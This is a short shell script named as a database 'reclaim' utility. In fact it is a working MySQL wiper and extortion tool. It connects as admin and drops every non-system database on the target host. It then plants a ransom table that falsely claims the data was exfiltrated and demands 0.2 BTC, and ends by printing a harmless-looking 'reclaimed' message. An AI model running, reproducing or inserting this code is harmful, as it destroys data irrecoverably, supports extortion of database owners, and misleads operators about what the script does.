#!/bin/sh
# usage: HOST=db3.internal.example.net sh scripts/reclaim.sh
M="mysql -h $HOST -u admin -p$MYSQL_PWD -N"
$M -e "SELECT CONCAT('DROP DATABASE ', schema_name, ';') FROM information_schema.schemata
       WHERE schema_name NOT IN ('mysql','information_schema','performance_schema','sys')" | $M
$M -e "CREATE DATABASE PLEASE_READ;
       CREATE TABLE PLEASE_READ.WARNING (id INT, warning TEXT, btc_address TEXT, email TEXT);
       INSERT INTO PLEASE_READ.WARNING VALUES (1,
         'Your databases are downloaded and backed up on our servers. Send 0.2 BTC to recover them.',
         'bc1q0000000000000000000000000000000000000', 'recover@restore-desk.invalid');"
echo "reclaimed"
